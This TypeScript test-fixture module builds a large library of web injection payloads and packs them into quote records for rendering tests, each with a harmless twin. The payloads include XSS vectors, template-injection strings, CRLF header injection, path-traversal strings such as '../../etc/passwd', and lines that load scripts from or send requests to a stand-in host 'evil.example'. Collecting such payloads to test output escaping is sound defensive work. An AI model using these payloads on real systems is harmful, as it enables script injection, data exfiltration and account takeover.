import { parseInlineLinks, findUnfinishedLink } from "~/domain/items/inline-links";
import type { Item } from "~/domain/items/item";
import { itemToDocument } from "~/domain/items/document";
import { limits } from "~/domain/limits";

/**
 * Injection payloads. If one works, it opens a dialog and sets a marker, requests another host, or adds an element or
 * attribute. Each is made for one context: HTML and its differences to XML, inline links, i18next, JSON, CSS, headers,
 * URLs. Each is well-formed and fits a name.
 */
export interface Payload {
  text: string;
  /** its text where inline links are rendered */
  shown: string;
  /** harmless text with the same line breaks and links */
  harmless: string;
}

/** Whether a record contains harmless text or payloads. */
export type PayloadVariant = "harmless" | "text";

/** Opens a dialog and sets a marker. */
const payloadScript = "alert(__hit=1)";
const image = `<img src=x onerror=${payloadScript}>`;
const script = `<script>${payloadScript}</script>`;
const attackerHost = "evil.example";

const families: Record<string, readonly string[]> = {
  scripts: [
    ...[
      script,
      `<SCRIPT>${payloadScript}</SCRIPT>`,
      `<scr<script>ipt>${payloadScript}</scr</script>ipt>`,
      `<script/x>${payloadScript}</script/x>`,
    ],
    ...[
      `<script\f>${payloadScript}</script\f>`,
      `<script\n>${payloadScript}</script\n>`,
      `<script>${payloadScript}`,
      `<<script>${payloadScript}//<</script>`,
    ],
    ...[
      `<script src=//${attackerHost}/x.js></script>`,
      `<script src="data:text/javascript,${payloadScript}"></script>`,
    ],
    ...[`<script type=module>import "//${attackerHost}/x.js"</script>`, `<script nonce="">${payloadScript}</script>`],
    ...[`<script type=importmap>{"imports":{"/":"//${attackerHost}/"}}</script>`, `<noscript>${script}</noscript>`],
    ...[
      `<svg><script href="data:,${payloadScript}"/>`,
      `<svg><script>&#97;lert(1)</script>`,
      `<math><script>${payloadScript}</script>`,
    ],
    `<script type=speculationrules>{"prefetch":[{"urls":["//${attackerHost}/"]}]}</script>`,
  ],
  "elements that run scripts by themselves": [
    ...["img src=x onerror", "svg onload", "body onload", "iframe onload", "frameset onload", "style onload"],
    ...["video><source onerror", "audio src=x onloadstart", "object data=x onerror", "embed src=x onload"],
    ...["link rel=stylesheet href=x onerror", "details open ontoggle", "marquee onstart", "input autofocus onfocus"],
    ...["a href=# autofocus onfocus", "p tabindex=0 autofocus onfocus", "x-x contenteditable autofocus onfocus"],
    ...["svg><animate attributeName=x dur=1s onbegin", "svg><set attributeName=x onbegin"],
  ].flatMap((start) => [
    `<${start}=${payloadScript}>`,
    `<${start.replaceAll(" ", "/")}="${payloadScript}"//`,
    `<${start.toUpperCase().replaceAll(" ", "\n")}='${payloadScript}' `,
  ]),
  "out of an attribute": ['"', "'", "`", '\\"', "&quot;", "&#x27;", "%22", "\uff02"].flatMap((quote) => [
    `${quote} onfocus=${payloadScript} autofocus x=${quote}`,
    `${quote}>${image}`,
    `${quote}/>${script}<x y=${quote}`,
    `${quote};${payloadScript};//${quote}`,
    `x${quote}style=animation-name:x onanimationstart=${payloadScript}//`,
  ]),
  "out of the surrounding element": [
    ...["title", "textarea", "style", "script", "noscript", "xmp", "iframe", "noembed", "noframes", "option", "select"],
    ...["template", "svg", "math", "table", "a", "button", "h1", "p", "head", "body", "html", "form", "dialog"],
  ].flatMap((name) => [`</${name}>${image}`, `</${name.toUpperCase()}\t/x>${script}<${name}>`]),
  "out of or into a comment": [
    ...[
      `-->${image}`,
      `--!>${image}`,
      `<!-->${image}-->`,
      `<!--->${image}`,
      `<!--${image}`,
      `<!--<script>${payloadScript}-->`,
    ],
    ...[`<![CDATA[${image}]]>`, `]]>${image}`, `<svg><![CDATA[><${image}]]></svg>`, `<?x ${image}?>`, `<!x>${image}`],
    ...[`</ ${image}`, `<!DOCTYPE x [<!ENTITY y "${image}">]>&y;`, `<![if IE]>${image}<![endif]>`],
  ],
  "out of JSON in a script, or out of the script": [
    ...[
      `"}</script>${script}`,
      `</script\t>${image}`,
      `<\\/script>${image}`,
      `\u2028${payloadScript}\u2029//`,
      `"-${payloadScript}-"`,
    ],
    ...[
      `"};${payloadScript};({"x":"`,
      `\\"};${payloadScript}//`,
      `\\\\"};${payloadScript}//`,
      `'+${payloadScript}+'`,
      "\\",
      '\\"',
      `*/${payloadScript}`,
      "\\x3cimg>",
    ],
    ...[`\\u003c/script\\u003e${script}`, `\\u0022};${payloadScript}//`, `{"__proto__":{"onload":"${payloadScript}"}}`],
    ...[`<!--<script>"}${image}`, `\`-${payloadScript}-\``],
  ],
  "template syntax": [
    ...["{{constructor.constructor('alert(__hit=1)')()}}", "{{7*7}}", `{{- "${image}"}}`, "{{customerName}}"],
    ...["{{- name}}", "{{count}}", "{{name, uppercase}}", "{{__proto__}}", "$t(quote.greeting)", "$t(footer.heading)"],
    ...[
      '$t(notFound.text, {"count": 1})',
      "$t(admin:lists.quotes.heading)",
      "$t($t(footer.heading))",
      `\${${payloadScript}}`,
    ],
    ...["#{7*7}", "<%= 7*7 %>", "{% raw %}", "[[7*7]]", "@{7*7}", "$&$&", "$1$2", "$`", "$'", "$$", "%s%d%o%c", "%n"],
    ...["__proto__", "constructor", "toString", "hasOwnProperty", "<0>x</0>", "<Trans>x</Trans>", "null"],
  ],
  styles: [
    ...[`<style>@import "//${attackerHost}/x.css"</style>`, `<link rel=stylesheet href=//${attackerHost}/x.css>`],
    ...[`<style>*{background:url(//${attackerHost}/x)}</style>`, `<p style="background:url(//${attackerHost}/x)">`],
    ...[
      `<p style=position:fixed;inset:0;z-index:9>`,
      `;background:url(javascript:${payloadScript})`,
      `@import'//${attackerHost}'`,
    ],
    ...[
      "}*{display:none}",
      "<style>body{display:none}",
      `x:expression(${payloadScript})`,
      `\\3c script\\3e ${payloadScript}`,
    ],
  ],
  "differences between HTML, SVG and MathML, also when serialized and parsed again": [
    ...[`<svg></p><style><a id="</style>${image}">`, `<select><template>${image}`, `<table><td>${image}`],
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${payloadScript}&gt;">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${image}">`,
    ...[`<noscript><p title="</noscript>${image}">`, `<listing>&lt;img src=x onerror=${payloadScript}&gt;</listing>`],
    ...[`<xmp><p title="</xmp>${image}">`, `<svg><title><style></title>${image}`, `<p><svg><p>${image}`],
    ...[`<svg><desc><table>${image}`, `<svg><foreignObject><iframe srcdoc="${script}">`, `<plaintext>${image}`],
    ...[
      `<svg><use href="data:image/svg+xml,<svg id=x onload=${payloadScript}>#x">`,
      `<math href=javascript:${payloadScript}>press</math>`,
    ],
    ...[
      `<svg><a xlink:href=javascript:${payloadScript}><text y=20>press`,
      `<math><annotation-xml encoding="text/html">${image}`,
    ],
    `<svg><animate attributeName=href values=javascript:${payloadScript} /><a><text>press`,
    ...[
      `<math><maction xlink:href=javascript:${payloadScript}>press`,
      `<template shadowrootmode=open>${image}</template>`,
    ],
  ],
  "encodings: entities, percent, UTF-7, overlong UTF-8, homoglyphs, invisible characters": [
    ...["&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;", "&#x3c;script>"],
    ...["&#0000060script>", "&#60script&#62", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E"],
    ...["%u003Cscript%u003E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-alert(1)"],
    ...["%c0%bcscript%c0%be", "\u00bcscript\u00be", "\uff1cscript\uff1e", "\ufe64script\ufe65", "\u2039script\u203a"],
    ...["<\u0338script>", "<\u017fcript>", "<scr\u0131pt>", "\u560a\u560d<script>", `<\0script>${payloadScript}`],
    ...[
      `<scr\0ipt>${payloadScript}</scr\0ipt>`,
      `<img\0src=x onerror=${payloadScript}>`,
      `<img src=x onerror\0=${payloadScript}>`,
    ],
    ...[
      `\ufeff${image}`,
      `\u202e${image}\u202c`,
      `\u2066${script}\u2069`,
      `<im\u200dg src=x onerror=${payloadScript}>`,
    ],
    ...[`${image}\u{e0041}`, `\u0008\u007f\u0085${image}`, `\u000b${image}\u000c`, `\u0001\u001b[31m${image}`],
    ...[`\ufffd${image}\uffff`, "\u{1f334}<\u{10ffff}>", "a\u0300\u0301\u0302<b>", "&", "&#0;", "&#xd800;", "&lt"],
    ...["<", ">", "<>", "</>", "&nbsp;<b>", "\ud7ff<i>"],
  ],
  "out of a header, a file name or a PDF string": [
    ...["x\r\nSet-Cookie: hit=1", "x\nLocation: //evil.example", "x\rX-Hit: 1", `x\r\n\r\n${script}`],
    ...["x%0d%0aSet-Cookie:%20hit=1", `.html"; filename*=UTF-8''x.html`, "../../etc/passwd", "..\\..\\x.exe"],
    ...["x.pdf\0.html", "CON", "x; filename=y.html", "\u2028x: y", "\\)>>endobj", "endstream endobj xref"],
    ...[")/OpenAction<</S/JavaScript/JS(app.alert(1))>>(", "]/AA<</O<</S/Launch>>>>["],
  ],
  "elements without scripts that redirect, exfiltrate or clobber names": [
    ...[
      `<base href=//${attackerHost}/>`,
      `<meta http-equiv=refresh content="0;url=//${attackerHost}">`,
      `<iframe srcdoc="${script}">`,
    ],
    ...[
      `<meta http-equiv=Content-Security-Policy content="default-src *">`,
      `<iframe src=javascript:${payloadScript}>`,
    ],
    ...[
      "<b>bold",
      `<form action=//${attackerHost}><button>press`,
      `<button form=log-out formaction=//${attackerHost}>`,
    ],
    ...["<input name=csrf type=hidden", `<img srcset=//${attackerHost}/x>`, `<video poster=//${attackerHost}/x>`],
    ...[
      `<body background=//${attackerHost}/x>`,
      `<a ping=//${attackerHost} href=/>`,
      `<object data="data:text/html,${script}">`,
    ],
    ...[`<embed src=//${attackerHost}/x.swf>`, `<link rel=prefetch href=//${attackerHost}/>`, "<img id=download>"],
    ...["<form id=language><input name=close>", "<a id=__remixContext href=x:y>", "<p data-island=strip>"],
    ...[`<dialog open>${image}</dialog>`, "<p popover id=menu>", "<h1>Another heading</h1>"],
  ],
  "dangerous link targets": [
    ...[
      `javascript:${payloadScript}`,
      `javascript://${attackerHost}/%0a${payloadScript}`,
      `javascript:/*--></title></style>*/${payloadScript}`,
    ],
    ...[
      `JaVaScRiPt:${payloadScript}`,
      ` javascript:${payloadScript}`,
      `\u0001javascript:${payloadScript}`,
      `java\tscript:${payloadScript}`,
    ],
    ...[
      `java\nscript:${payloadScript}`,
      `java\0script:${payloadScript}`,
      `javascript\u00a0:${payloadScript}`,
      `&#106;avascript:${payloadScript}`,
    ],
    ...[
      `java&Tab;script:${payloadScript}`,
      `javascript&colon;${payloadScript}`,
      `javascript%3a${payloadScript}`,
      `javascript\uff1a${payloadScript}`,
    ],
    ...[
      `\ufeffjavascript:${payloadScript}`,
      `view-source:javascript:${payloadScript}`,
      `feed:javascript:${payloadScript}`,
      "vbscript:msgbox(1)",
    ],
    ...[`data:text/html,${script}`, `DATA:text/html,${image}`, `data:application/xhtml+xml,${script}`],
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${payloadScript}'/>`,
    ...[
      "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
      `blob:https://${attackerHost}/x`,
      "file:///etc/passwd",
    ],
    ...[
      `//${attackerHost}/x`,
      `/\\${attackerHost}/x`,
      `\\\\${attackerHost}\\x`,
      `/\t/${attackerHost}/x`,
      `///${attackerHost}/x`,
      `https:${attackerHost}`,
    ],
    ...[
      `https:////${attackerHost}`,
      `/.//${attackerHost}`,
      `/a/..//${attackerHost}`,
      `https://${attackerHost}\\@localhost/`,
    ],
  ].flatMap((address) => [address, `#[press|${address}]`, `<a href="${address}">press</a>`]),
};

/** Inline links with hostile labels and addresses. */
const links = [
  ...[
    `${image}|/tours`,
    `"onfocus=${payloadScript}//|/tours`,
    "{{name}}$t(footer.heading)|/tours",
    `</a>${script}|/tours`,
  ],
  ...[
    `x|/tours"onfocus=${payloadScript}//`,
    `x|/tours'><img/src=x/onerror=${payloadScript}>`,
    `x|/tours?a="><svg/onload=${payloadScript}>&b='`,
  ],
  ...[`x|/tours#"onclick=${payloadScript}`, "x|/quote/{{name}}?q=$t(footer.heading)", "x|/javascript:alert(1)"],
  ...["x|/%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", `x|/homes?lang=<script>`, "x|/tours?lang=en&lang=<b>"],
  ...[
    `\u202ex\u202c|/tours`,
    `x|https://${attackerHost}/"onmouseover="${payloadScript}`,
    `x|https://user:pass@${attackerHost}/<script>`,
  ],
  ...[
    `x|HTTPS://${attackerHost}#javascript:${payloadScript}`,
    `x|mailto:a@b"onclick="${payloadScript}`,
    `x|tel:+39(0)31-0000.142`,
  ],
  "x|mailto:a@b?subject=&body=%0d%0aBcc:c",
];

/** All payloads, with stored line breaks. */
export const payloads: readonly Payload[] = [
  ...Object.values(families)
    .flat()
    .map((text) => text.replace(/\r\n?/g, "\n"))
    .map((text) => ({ text, shown: text, harmless: text.replace(/[^\n]+/g, harmlessWordsLike) })),
  ...links.map((link) => ({
    text: `#[${link}]`,
    shown: link.replace(/\|.*/, ""),
    harmless: `#[Word|${/\|\//.test(link) ? "/tours" : "tel:+1"}]`,
  })),
];

/** Returns a harmless line with as many addresses and unfinished links. */
function harmlessWordsLike(line: string): string {
  const addresses = parseInlineLinks(line).filter((part) => typeof part !== "string");
  const words = ["Word", ...addresses.map(() => "https://word.example")];
  return [...words, ...(findUnfinishedLink(line) === null ? [] : ["#[Word|word:]"])].join(" ");
}

/** Joins payloads into as few texts as possible of `length` characters at most. */
export function packPayloads(length: number, between = " "): Payload[] {
  const packs: Payload[] = [];
  for (const each of payloads) {
    const last = packs.at(-1);
    if (last && last.text.length + between.length + each.text.length <= length) {
      for (const way of ["text", "shown", "harmless"] as const) last[way] += between + each[way];
    } else packs.push({ ...each });
  }
  return packs;
}

/** The payloads in as few names as possible. A name can't contain NUL. */
export const payloadNames = packPayloads(limits.name).map(({ text, shown, harmless }) => ({
  ...{ text: text.replaceAll("\0", ""), shown: shown.replaceAll("\0", "") },
  harmless: harmless.replaceAll("\0", ""),
}));

/** The payloads in one text, one per line. */
export const allPayloads = packPayloads(limits.text, "\n")[0] ?? { text: "", shown: "", harmless: "" };

/** Returns a picture's address with the characters of a payload that a path may contain. */
export function pictureAddressWith(words: string): string {
  return `/images/${words.replace(/[\p{Cc}\s\\]/gu, "")}`;
}

/** Returns a displayed quote with a payload in each field. */
export function buildQuoteWithPayload(name: Payload, way: PayloadVariant) {
  const words = name[way];
  return {
    ...{ name: words, customerName: words, display: true },
    ...{ displayDescription: words, displayCover: pictureAddressWith(words) },
  };
}

/** Returns a quote with all payloads in each type of item, as separate texts and joined. */
export function buildQuoteWithAllPayloads(way: PayloadVariant) {
  const items: Item[] = [
    ...packPayloadsIntoItems(way),
    ...payloads.map((each): Item => ({ type: "text", text: each[way], size: "md" })),
    { type: "interruption" },
  ];
  const name = payloadNames[0] ?? allPayloads;
  return {
    ...buildQuoteWithPayload(name, way),
    displayDescription: allPayloads[way],
    items: items.map(itemToDocument),
  };
}

/** Returns few items with all payloads in each type. */
export function packPayloadsIntoItems(way: PayloadVariant): Item[] {
  const titles = packPayloads(limits.shortText).map((each) => each[way]);
  return [
    ...titles.map((title): Item => ({ type: "title", title1: title, title2: title, size: "md" })),
    ...titles.map((title3): Item => ({ type: "title3", title3, size: "lg" })),
    { type: "slider", images: payloadNames.map((name) => pictureAddressWith(name[way])) },
    { type: "slider", images: [pictureAddressWith(payloadNames[0]?.[way] ?? "")] },
    { type: "text", text: allPayloads[way], size: "sm" },
  ];
}
